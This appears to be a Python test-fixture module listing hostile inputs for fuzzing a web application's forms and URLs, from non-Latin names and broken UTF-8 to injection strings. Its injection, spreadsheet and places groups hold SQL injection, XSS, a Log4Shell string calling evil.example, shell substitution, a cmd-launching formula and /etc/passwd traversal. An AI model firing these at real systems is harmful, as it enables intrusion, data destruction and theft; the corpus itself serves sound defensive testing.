"""What people, scanners and broken programs type into addresses and forms: a corpus of named values.

Each value is bytes, as it would arrive: much of it is not text at all. The groups follow what goes wrong with
them elsewhere, and `names` is in it to be accepted: a site for immigrants that refuses a name is broken.
"""

from dataclasses import dataclass
from urllib.parse import quote_from_bytes


@dataclass(frozen=True, slots=True)
class Hostile:
    group: str
    name: str
    raw: bytes

    @property
    def quoted(self) -> str:
        """Percent-encoded for any place in an address."""
        return quote_from_bytes(self.raw, safe="")

    @property
    def text(self) -> str:
        """What a program that replaces broken bytes would read."""
        return self.raw.decode(errors="replace")

    @property
    def is_text(self) -> bool:
        """Could PostgreSQL keep it: whole UTF-8 without NUL?"""
        try:
            return "\x00" not in self.raw.decode()
        except UnicodeDecodeError:
            return False

    def __str__(self):
        return f"{self.group}/{self.name}"


NAMES = {
    "spanish": "José Ñandú", "apostrophe": "O'Connor-Ñ", "chinese": "李小龍", "arabic": "محمد الأحمد", "vocalised": "مُحَمَّد",
    "hebrew": "דָּוִד", "hindi": "हिन्दी", "thai": "ภาษาไทย", "amharic": "አማርኛ", "nko": "ߒߞߏ", "korean": "김", "vietnamese": "Nguyễn Thị Hồng",
    "haitian": "Èzili Dantò", "turkish": "İıĞğ", "sharp_s": "Groß", "one_letter": "Y", "four_surnames": "Ana de la Cruz y Paz Ruiz-Gómez Ñ",
    "decomposed": "Jose\u0301", "hawaiian": "Kaʻiulani", "null_word": "Null", "none_word": "None", "true_word": "true",
}  # fmt: skip

EMOJI = {
    "family": "👩‍👩‍👧‍👦", "flag": "🏳️‍🌈", "skin": "✊🏾", "joiner": "می‌خواهم", "keycap": "1️⃣", "many": "✊" * 200,
}  # fmt: skip

SPOOFING = {
    "right_to_left_override": "abc\u202egnp.exe", "isolates": "\u2066x\u2069", "unclosed_isolate": "\u2067x", "embedding": "\u202bx",
    "zero_width": "a\u200d\u200b\ufeffb", "tag_letters": "a\U000e0041\U000e0042", "hangul_filler": "\u3164", "blank": "\u3000\u00a0 ",
    "soft_hyphens": "a\u00ad\u00adb", "cyrillic": "аdmin", "full_width": "ａｄｍｉｎ", "full_width_tag": "＜script＞", "line_separator": "a\u2028b\u2029c",
}  # fmt: skip

MARKS = {
    "zalgo": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "thousand_marks": "a" + "\u0301" * 1000, "only_a_mark": "\u0301", "one_sign_eighteen": "ﷺ" * 50,
    "variation_selectors": "a" + "\ufe0f" * 100,
}  # fmt: skip

BROKEN_UNICODE = {
    "ff": b"\xff", "ff_fe": b"\xff\xfe", "lone_start": b"a\xc3", "lone_continuation": b"\x80a", "cut_emoji": "✊".encode()[:2],
    "surrogate": b"\xed\xa0\x80", "surrogate_pair": b"\xed\xa0\xbd\xed\xb8\x80", "overlong_slash": b"\xc0\xaf", "overlong_dot": b"\xc0\xae\xc0\xae",
    "overlong_nul": b"\xc0\x80", "beyond": b"\xf4\x90\x80\x80", "five_bytes": b"\xf8\x88\x80\x80\x80", "latin1": "Ñandú".encode("latin-1"),
    "utf16": "Ñ".encode("utf-16"), "utf7": b"+ADw-script+AD4-", "replacement": "\ufffd", "nonchar": "\ufffe\uffff", "private": "\ue000\ue001",
    "private_plane": "\U000f0000", "last": "\U0010ffff", "percent_percent": b"%25%32%35", "percent_u": b"%u0041", "half_percent": b"%", "percent_z": b"%zz",
}  # fmt: skip

CONTROL = {
    "nul": b"\x00", "nul_inside": b"a\x00b", "nul_quoted_twice": b"%00", "nul_at_end": b"plan\x00", "control": b"a\x01\x1f\x7fb", "escape": b"\x1b[31mred",
    "crlf_header": b"a\r\nSet-Cookie: x=1", "crlf_mail": b"a\r\nBcc: x@example.org", "lf": b"a\nb", "cr": b"a\rb", "tab": b"a\tb", "backspaces": b"a\x08\x08b",
    "bell": b"\x07", "c1": "a\u0085b\u009f", "log_line": b"x\n2026-01-01 ERROR root stolen", "form_feed": b"a\x0cb",
}  # fmt: skip

NUMBERS = {
    "zero": "0", "minus_one": "-1", "plus_one": "+1", "huge": "9" * 20, "bigger": "1" + "0" * 26, "beyond_bigint": "9223372036854775808",
    "five_thousand_digits": "9" * 3900, "float": "1.5", "exponent": "1e309", "nan": "NaN", "infinity": "Infinity", "hex": "0x10", "octal": "017",
    "full_width_digit": "１２", "arabic_digits": "١٢", "superscript": "²", "underscore": "1_000", "spaces": " 1 ", "comma": "1,000", "empty": "",
    "word": "abc", "list": "1,2,3", "brackets": "[1]", "uuid": "00000000-0000-0000-0000-000000000000", "date": "2007-13-45", "year": "99999-01-01",
}  # fmt: skip

INJECTION = {
    "sql_quote": "'", "sql_drop": "'; DROP TABLE conference_page;--", "sql_union": "1 UNION SELECT 1,2,3--", "sql_sleep": "1);SELECT pg_sleep(9)--",
    "sql_wildcards": "%_%_%_%", "sql_backslash": "\\", "tsquery": "a & | ! ( ) :* <->", "tsquery_open": "((((((", "websearch_quote": '"unclosed',
    "websearch_minus": "-" * 100, "regex": "(a+)+$", "regex_open": "[", "xss_svg": '"><svg/onload=alert(1)>', "xss_script": "<script>alert(1)</script>",
    "xss_attribute": "' onmouseover='alert(1)", "xss_comment": "<!--><img src=x onerror=alert(1)>", "xss_style": "<style>@import '//evil.example'</style>",
    "xss_textarea": "</textarea></title><script>alert(1)</script>", "xss_entity": "&lt;script&gt;&#x27;", "xss_mutation": "<noscript><p title='</noscript><img src=x>'>",
    "javascript": "javascript:alert(1)", "data_url": "data:text/html,<script>alert(1)</script>", "markdown_link": "[x](javascript:alert(1))",
    "markdown_bomb": "[" * 500 + "](" * 50, "markdown_quotes": ">" * 300, "markdown_table": "|" * 400, "template": "{{7*7}}{% debug %}", "template_filter": "{{settings.SECRET_KEY}}",
    "dollar": "${7*7}#{7*7}", "format": "{0.__class__}%(x)s%n%s", "log4j": "${jndi:ldap://evil.example/a}", "shell": "$(id)`id`;id|id", "ldap": "*)(uid=*", "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>&b;',
}  # fmt: skip

SPREADSHEET = {
    "equals": "=cmd|' /C calc'!A0", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(1)", "tab_equals": "\t=1+1", "hyperlink": '=HYPERLINK("http://evil.example","x")',
}  # fmt: skip

PLACES = {
    "dots": "..", "up": "../../../etc/passwd", "up_backslash": "..\\..\\windows\\win.ini", "up_quoted": "..%2f..%2fetc%2fpasswd", "up_twice": "....//....//etc/passwd",
    "absolute": "/etc/passwd", "dot_env": ".env", "dot_git": ".git/config", "php": "wp-login.php", "two_slashes": "//evil.example", "two_slashes_path": "//evil.example/%2e%2e",
    "backslash_host": "\\\\evil.example", "foreign": "https://evil.example/", "user_info": "https://ours@evil.example/", "no_slashes": "https:evil.example",
    "semicolon": "about;jsessionid=1", "question": "about?x", "hash": "about#x", "slashes": "/" * 300, "null_device": "/dev/null", "file_url": "file:///etc/passwd",
}  # fmt: skip

SIZE = {
    "121": "x" * 121, "201": "x" * 201, "201_wide": "文" * 201, "3_kb": "x" * 3_000, "8_kb": "x" * 8_000, "8_kb_words": "the " * 2_000, "8_kb_wide": "文" * 2_700, "100_kb": "x" * 100_000,
}  # fmt: skip

TOKENS = {
    "signed_wrong": "ImEi:1abcde:abc", "colons": ":::", "dots": "a.b.c", "base64": "WyJwYWdlIiwxXQ", "compressed": ".eJwLzs", "long": "A" * 3_000 + ":1:1",
}  # fmt: skip

GROUPS = {
    "names": NAMES, "emoji": EMOJI, "spoofing": SPOOFING, "marks": MARKS, "broken_unicode": BROKEN_UNICODE, "control": CONTROL, "numbers": NUMBERS,
    "injection": INJECTION, "spreadsheet": SPREADSHEET, "places": PLACES, "size": SIZE, "tokens": TOKENS,
}  # fmt: skip


def as_bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode()


def of(group: str) -> list[Hostile]:
    return [value for value in CORPUS if value.group == group]


def one_of_each() -> list[Hostile]:
    return [of(group)[0] for group in GROUPS]


CORPUS = [Hostile(group, name, as_bytes(value)) for group, values in GROUPS.items() for name, value in values.items()]
# The values that broke other sites most often, for places where trying all of them takes too long.
SHARP = [
    *of("control")[:3], *of("broken_unicode")[:6], *of("numbers")[3:7], *of("injection")[:8], of("marks")[0], *of("size")[2:5],
    of("places")[1], of("spoofing")[0],
]  # fmt: skip
